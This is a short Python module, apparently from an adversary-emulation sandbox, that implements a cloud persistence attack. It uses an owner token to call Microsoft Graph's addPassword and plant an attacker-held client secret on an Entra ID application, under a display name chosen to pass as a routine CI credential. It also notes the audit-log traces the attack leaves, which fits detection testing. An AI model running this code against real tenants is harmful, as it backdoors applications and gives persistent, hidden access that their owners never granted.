"""Attack: a client secret of the attacker's on somebody's application.

Technique   T1098.001 Account Manipulation: Additional Cloud Credentials
Needs       a token of an owner of the application, or Application.ReadWrite.*
Leaves      one more entry in passwordCredentials; AuditLogs "Certificates and secrets management"
Source      https://stratus-red-team.cloud/attack-techniques/entra-id/entra-id.persistence.backdoor-application/
"""

from dataclasses import dataclass, field

import httpx

from sandbox.attacks.attacker import Attacker, AttackFailedError

DISPLAY_NAME = "ci-2025"  # looks like the next one in the row of the legitimate "ci-2024"


@dataclass(frozen=True, slots=True)
class PlantedSecret:
    """The secret's id, which is public, and its value, which Graph tells once."""

    key_id: str
    value: str = field(repr=False)


async def attempt(attacker: Attacker, owner_token: str, application: str) -> httpx.Response:
    """Ask for a secret on an application, by object id."""
    url = f"{attacker.endpoints['graph']}/v1.0/applications/{application}/addPassword"
    wish = {"passwordCredential": {"displayName": DISPLAY_NAME}}
    return await attacker.call("POST", url, owner_token, wish)


async def plant(attacker: Attacker, owner_token: str, application: str) -> PlantedSecret:
    """Plant the secret. Raises `AttackFailedError` where Graph refuses."""
    answer = await attempt(attacker, owner_token, application)
    if not answer.is_success:
        raise AttackFailedError(f"addPassword: {answer.status_code} {answer.text[:300]}")
    body = answer.json()
    return PlantedSecret(body["keyId"], body["secretText"])
